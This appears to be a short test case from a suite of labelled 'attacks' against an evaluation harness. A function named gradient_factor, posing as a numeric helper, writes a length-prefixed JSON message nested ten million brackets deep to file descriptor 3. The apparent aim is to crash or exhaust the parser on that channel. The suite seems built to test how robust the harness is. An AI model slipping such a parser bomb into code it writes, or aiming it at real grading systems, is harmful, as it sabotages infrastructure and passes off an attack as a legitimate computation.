# /// attack
# group = "C"
# number = 36
# lesson = "02_one_step"
# outcome = "Z"
# tries = "sends JSON ten million brackets deep in place of a value"
# reasons = { gradient_factor = "protocol" }
# ///
# %% gradient_factor
def gradient_factor(loss, n):
    import os, struct
    text = b'{"id": 1, "value": ' + b"[" * 10_000_000
    os.write(3, struct.pack("!II", len(text), 0) + text)
    return 0.0
